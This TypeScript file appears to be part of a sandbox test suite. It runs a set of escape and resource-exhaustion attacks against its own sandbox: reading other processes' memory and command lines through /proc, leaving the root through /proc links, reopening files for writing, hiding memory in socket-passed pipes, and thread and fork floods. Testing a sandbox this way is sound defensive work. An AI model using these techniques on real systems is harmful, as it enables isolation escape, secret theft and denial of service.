/** Attacks by detours: links of /proc, descriptors and memory that are nowhere to be seen, ends of processes as signals. */
import { spawn } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, type Attempt, NO_ANSWER, sleep, tryTo } from '../attack.js';
import { pdfWith, SECRET } from '../scene.js';
import { call, numberOf, REFUSED } from './system-calls.js';

const MIB = 1024 ** 2;
/** Longer than two checks of the parent's watch. */
const HELD_MS = 3000;
const MANY_THREADS = 3000;
const MANY_FILES = 10_000;
const [CLONE_PARENT, SIGTERM, SIGKILL] = [0x8000, 15, 9];
const [F_SETFL, O_NONBLOCK, O_APPEND, O_ASYNC] = [4, 0o4000, 0o2000, 0o20000];
const [F_SETPIPE_SZ, FIOASYNC, PAGE] = [1031, 0x5452, 4096];

const goal = ({ scene }: Attempt) => 2 * scene.memoryLimit;

/** Runs Perl, whose command line has the attack's id, and returns the sum of the numbers that it says it has after a while. */
async function claimed({ scene }: Attempt, script: string, options: readonly string[] = []): Promise<number> {
  spawn('perl', [...options, '-e', `${script} # ${scene.id}`], { stdio: 'ignore' }).on('error', () => {});
  await sleep(1000 + HELD_MS);
  const files = readdirSync('.').filter(name => name.startsWith('has'));
  return files.reduce((sum, name) => sum + Number(readFileSync(name)), 0);
}

const says = (number: string) => `open F, ">", "has$$" and print F ${number} and close F;`;

const otherProcesses = () => readdirSync('/proc').filter(name => /^\d+$/.test(name) && Number(name) !== process.pid);

/** Pipes with data, each sent through a pair of sockets and closed: no process has them open. */
const PIPES_UNDER_WAY = (bytes: number) => `
use Socket; $n = 0; $block = "x" x 65536;
while ($n < ${bytes}) {
  socketpair(A, B, AF_UNIX, SOCK_STREAM, 0) or last; push @kept, *A{IO}, *B{IO};
  for (1..200) {
    pipe(R, W) or last; fcntl(W, ${F_SETPIPE_SZ}, 1 << 20); fcntl(W, ${F_SETFL}, ${O_NONBLOCK});
    $own = 0; while (defined($w = syswrite(W, $block))) { $own += $w }
    $control = pack("Qiii", 20, 1, 1, fileno(R)) . "\\0" x 4; $byte = "x";
    $vector = pack("PQ", $byte, 1);
    $message = pack("QQPQPQQ", 0, 0, $vector, 1, $control, 24, 0);
    syscall(${numberOf('sendmsg')}, fileno(A), $message, 0x40) >= 0 or last; close R; close W; $n += $own;
  }
  last if $tries++ > 20;
}
${says('$n')} sleep 300`;

/** Each has the memory for a tenth of a second, and hands over to the next. */
const MOMENTS = (bytes: number) => `
$SIG{CHLD} = "IGNORE"; $bytes = ${bytes};
for (1..30) { fork or do { $x = "a" x $bytes; select undef, undef, undef, 0.1; exit }; select undef, undef, undef, 0.1; $n++ }
${says('$n')} sleep 300`;

export const INDIRECT_ATTACKS: Record<string, Attack> = {
  'opens what others have through /proc': async attempt => {
    for (const pid of [...new Set([String(attempt.scene.parent), ...otherProcesses()])]) {
      if (isOwn(pid)) continue;
      for (const link of ['root', 'cwd'])
        await tryTo(attempt, `${link} of ${pid}`, () => readdirSync(`/proc/${pid}/${link}`)[0] ?? false);
      for (const file of ['mem', 'auxv', 'syscall', 'stack', 'maps'])
        await tryTo(attempt, `${file} of ${pid}`, () => readFileSync(`/proc/${pid}/${file}`).length > 0);
      await tryTo(attempt, `descriptors of ${pid}`, () => readlinkSync(`/proc/${pid}/fd/0`));
    }
  },
  'leaves its root through links of /proc': async attempt => {
    const { secret, victim } = attempt.scene;
    for (const root of [
      '/proc/self/root',
      '/proc/1/root',
      '/proc/self/cwd/../../../../../..',
      '/proc/thread-self/root',
      '/dev/fd/../../..',
    ])
      for (const path of [secret, join(victim, 'one.txt')])
        await tryTo(attempt, `read ${path} by ${root}`, () => readFileSync(`${root}${path}`).length > 0);
  },
  'opens a readable file again for writing': async attempt => {
    for (const path of [process.execPath, import.meta.filename, '/usr/bin/perl']) {
      const descriptor = openSync(path, 'r');
      for (const link of [`/proc/self/fd/${descriptor}`, `/dev/fd/${descriptor}`])
        await tryTo(attempt, `opened ${path} by ${link}`, () => closeSync(openSync(link, 'r+')));
      closeSync(descriptor);
    }
  },
  'protects itself from the end by lack of memory': async attempt => {
    const path = '/proc/self/oom_score_adj';
    const score = () => Number(readFileSync(path, 'latin1'));
    const given = score();
    for (const less of [-1000, 0, 999])
      await tryTo(attempt, `a score of ${less} in place of ${given}`, () => {
        writeFileSync(path, String(less));
        return score() < given;
      });
  },
  'leaves the core of a large process': async attempt => {
    const limits = Buffer.alloc(16, 255);
    call('prlimit64', 0, 4, limits, null);
    const script = `$x = "a" x ${Math.round(attempt.scene.memoryLimit / 2)}; kill SEGV => $$`;
    spawn('perl', ['-e', `${script} # ${attempt.scene.id}`], { stdio: 'ignore' }).on('error', () => {});
    await sleep(HELD_MS);
    const cores = readdirSync('.').filter(name => /^core/.test(name) && statSync(name).size > MIB);
    if (cores.length > 0) attempt.reached(`a core of ${Math.round(statSync(cores[0]!).size / MIB)} MiB`);
  },
  'data in pipes that are under way between sockets': async attempt => {
    const bytes = await claimed(attempt, PIPES_UNDER_WAY(goal(attempt)));
    if (bytes > 1.5 * attempt.scene.memoryLimit) attempt.reached(`${Math.round(bytes / MIB)} MiB in pipes`);
  },
  'thousands of threads': async attempt => {
    const script = `for (1..${MANY_THREADS}) { threads->create({ stack_size => 65536 }, sub { sleep 300 }) or last; $n++ } ${says('$n')} sleep 300`;
    const threads = await claimed(attempt, script, ['-Mthreads']);
    if (threads >= MANY_THREADS) attempt.reached(`${threads} threads`);
  },
  'raises its limits, then opens many files': async attempt => {
    const limits = Buffer.alloc(16);
    limits.writeBigUInt64LE(1_000_000n, 0);
    limits.writeBigUInt64LE(1_000_000n, 8);
    call('prlimit64', 0, 7, limits, null);
    const script = `for (1..200000) { syscall(${numberOf('eventfd2')}, 0, 0) >= 0 or last; $n++ } ${says('$n + 1')} sleep 300`;
    const files = await claimed(attempt, script);
    if (files > MANY_FILES) attempt.reached(`${files} open files`);
  },
  'changes the state of its pipes': ({ link }) => {
    for (const descriptor of [0, 1, 2, 3, 4]) {
      call('fcntl', descriptor, F_SETPIPE_SZ, PAGE);
      call('fcntl', descriptor, F_SETFL, O_NONBLOCK | O_APPEND | O_ASYNC);
      call('ioctl', descriptor, FIOASYNC, Buffer.from([1, 0, 0, 0]));
      call('fcntl', descriptor, F_SETFL, 0);
    }
    link.answer(pdfWith('attacked'));
    return NO_ANSWER;
  },
  'memory in processes that live for a moment': async attempt => {
    const moments = await claimed(attempt, MOMENTS(goal(attempt)));
    if (moments >= 30) attempt.reached(`${moments} times ${Math.round(goal(attempt) / MIB)} MiB for a moment`);
  },
  'reads command lines of others': async attempt => {
    for (const pid of otherProcesses())
      await tryTo(attempt, `command line of ${pid}`, () => {
        const text = readFileSync(`/proc/${pid}/cmdline`, 'latin1');
        return text.includes(SECRET) || text.includes(attempt.scene.base);
      });
  },
  'signals its parent by the end of a sibling': attempt => {
    for (const signal of [SIGTERM, SIGKILL]) {
      const { result, errno } = call('clone', CLONE_PARENT | signal, 0, 0, 0, 0);
      if (result === 0) call('exit', 0);
      if (result > 0 || !REFUSED.has(errno)) attempt.reached(`a sibling that ends with signal ${signal}: ${errno}`);
    }
  },
};

/** The first process of a sandbox, and what this worker has started. */
function isOwn(pid: string): boolean {
  try {
    const status = readFileSync(`/proc/${pid}/status`, 'latin1');
    const parent = Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]);
    return (
      parent === process.pid || (pid === '1' && /bwrap|unshare|node/.test(readFileSync('/proc/1/cmdline', 'latin1')))
    );
  } catch {
    return false;
  }
}
